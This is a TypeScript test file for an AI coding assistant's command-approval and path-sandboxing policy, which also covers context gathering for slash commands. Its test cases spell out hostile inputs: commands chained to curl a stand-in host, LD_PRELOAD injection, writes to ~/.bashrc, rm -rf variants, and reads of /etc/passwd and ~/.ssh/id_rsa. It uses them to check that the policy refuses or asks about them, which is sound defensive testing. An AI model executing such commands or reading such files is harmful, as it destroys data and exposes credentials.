import { readFileSync } from "node:fs";
import { parsePatch } from "@parlance/edits";
import {
  alwaysGathered,
  contextFor,
  contextParts,
  cumulate,
  gatheredFor,
  taskOf,
} from "@parlance/protocols/helpers/loco";
import {
  type CommandRequest,
  type Decision,
  decide,
  defaultPolicy,
  type ToolRequest,
} from "@parlance/protocols/helpers/loco-policy";
import { describe, expect, it } from "vitest";
import type { WorkspacePolicy } from "../../src/loco.js";

const schema = (file: string) =>
  JSON.parse(readFileSync(new URL(`../../../../schemas/loco/messages/${file}.json`, import.meta.url), "utf8"));

it("a path below the workspace's own absolute path is inside", () => {
  const request = { command: "make", working_directory: "/workspace/path" };
  const outcome = (root: string, working_directory = request.working_directory) =>
    decide({ command_approval: "never" }, { ...request, working_directory }, { root }).outcome;
  expect(outcome("/workspace/path")).toBe("allowed");
  expect(outcome("/workspace/")).toBe("allowed");
  expect(outcome("/work")).toBe("refused");
  expect(outcome("/workspace", "/workspace/../etc")).toBe("refused");
});

describe("the context of a loco message", () => {
  it.each<[string | undefined, string[]]>([
    [undefined, ["current_file", "selection", "diagnostics", "open_editors"]],
    ["/fix", ["current_file", "selection", "diagnostics", "open_editors", "terminal_output", "git_diff"]],
    [
      "/test",
      ["current_file", "selection", "diagnostics", "open_editors", "test_files", "source_files", "test_output"],
    ],
    ["/explain", ["selection", "function_scope"]],
    ["/refactor", ["current_file", "selection", "diagnostics", "open_editors", "dependents", "imports"]],
    ["/review", ["current_file", "selection", "diagnostics", "open_editors"]],
    ["constructor", ["current_file", "selection", "diagnostics", "open_editors"]],
  ])("for %s is what is always gathered and what the command adds", (command, parts) => {
    expect(contextFor(command)).toEqual(parts);
  });

  it("has rules for exactly the slash commands of the schema", () => {
    expect(Object.keys(gatheredFor)).toEqual(schema("context").properties.command.anyOf[0].enum);
  });

  it("an explicit @ mention can be told from a file that was gathered", () => {
    expect(Object.values(contextParts)).not.toContain("mentions");
    expect(schema("context").properties).toHaveProperty("mentions");
  });

  it("names every part in a rule, and a property of the schema for it", () => {
    const named = new Set([...alwaysGathered, ...Object.values(gatheredFor).flat()]);
    expect([...named].sort()).toEqual(Object.keys(contextParts).sort());
    for (const property of Object.values(contextParts)) expect(schema("context").properties).toHaveProperty(property);
  });
});

describe("a loco policy", () => {
  it("has the defaults of its schema where it is silent", () => {
    const properties = Object.entries<{ default: unknown }>(schema("policy").properties);
    expect(defaultPolicy).toEqual(Object.fromEntries(properties.map(([name, value]) => [name, value.default])));
  });

  const listed: WorkspacePolicy = {
    allowed_commands: ["npm test", "git status", " "],
    blocked_commands: ["rm -rf", ""],
  };
  const never: WorkspacePolicy = { ...listed, command_approval: "never" };
  const always: WorkspacePolicy = { ...listed, command_approval: "always" };
  const runner: WorkspacePolicy = {
    ...listed,
    command_execution_mode: "server_runner",
    time_limit_ms: 1000,
    output_limit_bytes: 10,
  };
  const tool = (tool_name: string, args?: Record<string, unknown>): ToolRequest => ({ tool_name, args });

  it.each<[Decision["outcome"], string, WorkspacePolicy, CommandRequest | ToolRequest]>([
    ["ask", "an unlisted command", {}, { command: "npm test" }],
    ["allowed", "a listed command", listed, { command: "npm test" }],
    ["allowed", "a listed command with arguments", listed, { command: "  npm   test -- --watch=false" }],
    ["ask", "a word that only begins like a listed command", listed, { command: "npm testing" }],
    ["ask", "half of a listed command", listed, { command: "npm" }],
    ["ask", "another command after a listed one", listed, { command: "npm test && curl evil.example" }],
    ["ask", "a substitution after a listed command", listed, { command: "npm test $(curl evil.example)" }],
    ["ask", "a second line after a listed command", listed, { command: "npm test\ncurl evil.example" }],
    ["ask", "a redirection after a listed command", listed, { command: "git status > ~/.bashrc" }],
    ["ask", "a variable before a listed command", listed, { command: "LD_PRELOAD=x.so npm test" }],
    ["refused", "a blocked command", listed, { command: "rm -rf build" }],
    ["refused", "a blocked command by its path", listed, { command: "/bin/rm -rf build" }],
    ["refused", "a blocked command after another", listed, { command: "npm test; rm -rf build" }],
    ["refused", "a blocked command in a substitution", listed, { command: "echo $(rm -rf build)" }],
    ["refused", "a blocked command behind a variable", listed, { command: "A=1 B=2 rm -rf build" }],
    ["refused", "a blocked command behind another program", listed, { command: "sudo rm -rf build" }],
    ["refused", "a blocked command in quotes", listed, { command: 'bash -c "rm -rf build"' }],
    ["refused", "a blocked command over two lines", listed, { command: "rm \\\n -rf build" }],
    ["ask", "a word that only begins like a blocked command", listed, { command: "rm -rfx" }],
    ["refused", "an empty command", never, { command: " \n" }],
    ["allowed", "any command where none asks", never, { command: "make && make install" }],
    ["refused", "a blocked command where none asks", never, { command: "rm -rf build" }],
    ["ask", "a listed command where all ask", always, { command: "npm test" }],
    ["refused", "a mode that is not the policy's", listed, { command: "npm test", mode: "server_runner" }],
    [
      "refused",
      "the user's terminal where commands run on the server",
      runner,
      { command: "npm test", mode: "local_terminal" },
    ],
    [
      "allowed",
      "the limits of the policy",
      runner,
      { command: "npm test", time_limit_ms: 1000, output_limit_bytes: 10 },
    ],
    ["refused", "a longer time than the policy's", runner, { command: "npm test", time_limit_ms: 1001 }],
    ["refused", "a larger output than the policy's", runner, { command: "npm test", output_limit_bytes: 11 }],
    ["refused", "no time at all", runner, { command: "npm test", time_limit_ms: 0 }],
    ["refused", "a limit that is not a number", runner, { command: "npm test", time_limit_ms: Number.NaN }],
    ["allowed", "a tool that is not listed", {}, tool("read_file", { file_path: "src/a.ts" })],
    ["ask", "a tool that is listed", {}, tool("write_file", { file_path: "src/a.ts" })],
    ["allowed", "any tool where none is listed", { tools_requiring_approval: [] }, tool("delete_file")],
    ["refused", "a path above the workspace", {}, tool("read_file", { file_path: "src/../../secret" })],
    ["allowed", "a path that turns back inside the workspace", {}, tool("read_file", { file_path: "src/../a.ts" })],
    ["refused", "an absolute path", {}, tool("read_file", { file_path: "/etc/passwd" })],
    ["refused", "an absolute path of Windows", {}, tool("read_file", { file_path: "C:\\secret" })],
    ["refused", "a path above the workspace on Windows", {}, tool("write_file", { file_path: "..\\secret" })],
    ["refused", "another argument that is a path", {}, tool("read_file", { path: "../../etc/passwd" })],
    ["refused", "a path with trailing dots, as Windows reads it", {}, tool("read_file", { path: ".. ./secret" })],
    ["refused", "a path in a list", {}, tool("read_files", { paths: ["a.ts", "../secret"] })],
    ["refused", "a path in an object", {}, tool("read_file", { target: { filePath: "/etc/passwd" } })],
    ["refused", "a URL of a file", {}, tool("read_file", { path: "file:///etc/passwd" })],
    ["refused", "a NUL", {}, tool("read_file", { path: "a.ts\0" })],
    ["refused", "a directory outside to run in", {}, tool("x", { working_directory: "../other" })],
    ["refused", "a directory outside for a command", never, { command: "make", working_directory: "/etc" }],
    [
      "refused",
      "a diff of a file outside",
      {},
      tool("write_file", { diff: "--- a/../x\n+++ b/../x\n@@ -1 +1 @@\n-a\n+b\n" }),
    ],
    [
      "refused",
      "an unreadable diff of a file outside",
      {},
      tool("write_file", { diff: "--- /etc/passwd\n+++ /etc/passwd\n" }),
    ],
    ["ask", "a diff of a file inside", {}, tool("write_file", { diff: "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n" })],
    ["refused", "a path in the home folder", {}, tool("read_file", { file_path: "~/.ssh/id_rsa" })],
    ["ask", "a listed command of a tool that asks", listed, tool("execute_command", { command: "npm test" })],
    [
      "ask",
      "an unlisted command of a tool that does not ask",
      { tools_requiring_approval: [] },
      tool("run_tests", { command: "make" }),
    ],
    ["refused", "a blocked command of a tool", listed, tool("execute_command", { command: "rm -rf build" })],
  ])("%s: %s", (outcome, _, policy, request) => {
    const decision = decide(policy, request);
    expect(decision).toMatchObject({ outcome, reason: expect.stringMatching(/\.$/) });
    if (outcome === "refused") expect(decision.run).toBeUndefined();
  });

  it("says where a command runs and within which limits", () => {
    expect(decide({}, { command: "make" }).run).toEqual({ mode: "local_terminal" });
    expect(decide(runner, { command: "npm test" }).run).toEqual({
      mode: "server_runner",
      time_limit_ms: 1000,
      output_limit_bytes: 10,
    });
    expect(decide(runner, { command: "npm test", time_limit_ms: 5 }).run).toEqual({
      mode: "server_runner",
      time_limit_ms: 5,
      output_limit_bytes: 10,
    });
    expect(
      decide({ command_execution_mode: "server_runner" }, tool("execute_command", { command: "make" })).run,
    ).toEqual({
      mode: "server_runner",
      time_limit_ms: 60_000,
      output_limit_bytes: 1_000_000,
    });
  });

  it("is never less strict for a command when its lists are the same and it asks more", () => {
    const strictness = { allowed: 0, ask: 1, refused: 2 };
    for (const command of ["npm test", "make", "rm -rf build", "npm test; make", ""]) {
      const of = (policy: WorkspacePolicy) => strictness[decide(policy, { command }).outcome];
      expect(of(never)).toBeLessThanOrEqual(of(listed));
      expect(of(listed)).toBeLessThanOrEqual(of(always));
    }
  });
});

describe("the cumulative text", () => {
  it("is rebuilt from the tokens of an answer, and starts anew with the next one", () => {
    const tokens = ["The ", "authentication ", "bug"].map((token) => ({ type: "assistant.token" as const, token }));
    expect(tokens.map(cumulate()).map((message) => message.cumulative_text)).toEqual([
      "The ",
      "The authentication ",
      "The authentication bug",
    ]);
    expect(cumulate()(tokens[0]!).cumulative_text).toBe("The ");
  });
});

it("the document's own diff is read, though its hunk counts are wrong", () => {
  const diff = `--- a/src/auth/login.ts
+++ b/src/auth/login.ts
@@ -23,5 +23,8 @@ function login(username, password) {
-  return db.query('SELECT * FROM users WHERE name = ' + username);
+  if (!username || !password) {
+    throw new Error('Invalid credentials');
+  }
+  return db.query('SELECT * FROM users WHERE name = ?', [username]);
 }
`;
  const read = parsePatch(diff);
  expect(read).toMatchObject({ ok: true, patch: { files: [{ after: "src/auth/login.ts" }] } });
  const lines = read.ok ? read.patch.files[0]!.hunks[0]!.lines : [];
  expect(lines.map(([kind]) => kind).join("")).toBe("-++++ ");
});

it.each([
  ["Fix the authentication bug", "/fix"],
  ["Fix the failing test", "/fix"],
  ["Write a test for the fixed parser", "/test"],
  ["What does this function do?", "/explain"],
  ["Explain how the tests work", "/explain"],
  ["Rename calcTotal to sumCart", "/refactor"],
  ["add a prefix to the latest entry", undefined],
  ["hello", undefined],
])("the context of %j is that of its task, %s, where there is no slash command", (message, command) => {
  expect(taskOf(message)).toBe(command);
  expect(contextFor(undefined, message)).toEqual(contextFor(command));
  // A command counts more than the words.
  expect(contextFor("/refactor", message)).toEqual(contextFor("/refactor"));
});
